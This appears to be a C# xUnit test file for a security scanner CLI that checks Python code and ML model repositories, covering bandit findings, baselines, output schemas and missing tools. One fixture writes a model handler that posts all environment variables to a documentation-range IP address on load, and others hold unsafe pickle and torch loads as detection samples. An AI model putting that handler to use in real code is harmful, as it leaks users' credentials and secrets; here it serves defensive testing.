using System.Text.Json;

namespace Assay.Cli.Tests.Commands;

/// <summary><c>assay scan --kind code</c> as its users run it.</summary>
public sealed class CodeScanTests
{
    [Fact]
    public void Bandit_runs_when_asked_for_and_its_findings_are_merged()
    {
        using var work = new Workspace();
        Directory.CreateDirectory(work.At("src"));
        File.WriteAllText(work.At("src/a.py"), "import pickle\npickle.load(f)\nassert True\n");
        var result = work.Run("scan", "src", "--kind", "code", "--with", "bandit", "--format", "sarif");
        Assert.Equal(1, result.Code);
        using var sarif = JsonDocument.Parse(result.Out);
        var found = sarif.RootElement.GetProperty("runs")[0].GetProperty("results").EnumerateArray().ToList();
        Assert.Contains(found, f => f.GetProperty("ruleId").GetString() == "B101");
        var load = Assert.Single(found, f => f.GetProperty("locations")[0].GetProperty("physicalLocation").GetProperty("region").GetProperty("startLine").GetInt32() == 2);
        Assert.Contains("py-", load.GetProperty("ruleId").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public void What_a_baseline_leaves_out_is_not_recorded_as_passed()
    {
        using var work = new Workspace().WithRecord();
        Directory.CreateDirectory(work.At("src"));
        File.WriteAllText(work.At("src/a.py"), "import pickle\npickle.load(f)\n");
        work.Run("scan", "src", "--kind", "code", "--format", "json", "--output", "before.json");
        Assert.Equal(0, work.Run("scan", "src", "--kind", "code", "--baseline", "before.json").Code);
        var refused = work.Run("scan", "src", "--kind", "code", "--baseline", "before.json", "--record", "--as", "Bob");
        Assert.Equal(2, refused.Code);
        Assert.Contains("Record without it", refused.Error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("setup.py"), InlineData("requirements.txt"), InlineData(".git/HEAD"), InlineData("Makefile")]
    public void A_model_that_says_it_is_a_project_has_the_code_that_it_brings_judged_as_a_part_of_it(string mark)
    {
        using var work = new Workspace();
        Write(work, "hub/config.json", """{"model_type":"bert","architectures":["BertModel"]}""");
        Write(work, "hub/code/handler.py", "import os, urllib.request\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        urllib.request.urlopen('http://203.0.113.9/', data=repr(dict(os.environ)).encode())\n");
        Assert.Equal(1, work.Run("scan", "hub").Code);
        Write(work, "hub/" + mark, "");
        var scanned = work.Run("scan", "hub");
        Assert.True(scanned.Code == 1, scanned.Out + scanned.Error);
        Assert.Contains("python-takes-secrets", scanned.Out, StringComparison.Ordinal);

        // Without a model it is somebody's project, which may ask for what it likes.
        Write(work, "project/setup.py", "");
        Write(work, "project/models/weights.pkl", "not a pickle");
        Write(work, "project/tools/fetch.py", File.ReadAllText(work.At("hub/code/handler.py")));
        Assert.DoesNotContain("python-takes-secrets", work.Run("scan", "project").Out, StringComparison.Ordinal);
    }

    static void Write(Workspace work, string name, string text)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(work.At(name))!);
        File.WriteAllText(work.At(name), text);
    }

    [Fact]
    public void Json_of_code_alone_and_of_both_fits_the_schema_of_every_scan()
    {
        using var work = new Workspace();
        Directory.CreateDirectory(work.At("src"));
        File.WriteAllText(work.At("src/a.py"), "import torch\nm = torch.load(path)\n");
        File.WriteAllText(work.At("src/b.py"), "import pickle\npickle.load(f)  # assay: ignore[py-pickle-load] our own file\n");
        File.WriteAllText(work.At("src/a.ipynb"), """{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[{"cell_type":"code","metadata":{},"outputs":[],"source":["import pickle\n","pickle.load(f)"]}]}""");
        File.Copy(Workspace.Sample("model/credit-risk.onnx"), work.At("src/model.onnx"));
        Assert.Equal(1, work.Run("scan", "src", "--kind", "code", "--format", "json", "--output", work.At("code.json")).Code);
        Assert.Equal(1, work.Run("scan", "src", "--kind", "all", "--format", "json", "--output", work.At("all.json")).Code);
        var (code, said) = NodeChecks.Run("validate-schema.cjs", Path.Combine(Workspace.Root, "docs/formats/scan-result.schema.json"), work.At("code.json"), work.At("all.json"));
        Assert.True(code == 0, said);
        using var json = JsonDocument.Parse(File.ReadAllText(work.At("all.json")));
        Assert.Equal("clean", json.RootElement.GetProperty("files").EnumerateArray().Single(f => f.GetProperty("path").GetString() == "model.onnx").GetProperty("verdict").GetString());
        Assert.True(json.RootElement.GetProperty("code").GetProperty("findings").GetArrayLength() >= 2);
    }

    [Fact]
    public void A_tool_that_nobody_knows_or_has_is_told()
    {
        using var work = new Workspace().With("PATH", "/nowhere");
        Directory.CreateDirectory(work.At("src"));
        File.WriteAllText(work.At("src/a.py"), "x = 1\n");
        Assert.Contains("does not know 'lint'", work.Run("scan", "src", "--kind", "code", "--with", "lint").Error, StringComparison.Ordinal);
        var missing = work.Run("scan", "src", "--kind", "code", "--with", "bandit");
        Assert.Equal(3, missing.Code);
        Assert.Contains("is not on PATH", missing.Out + missing.Error, StringComparison.Ordinal);
    }
}
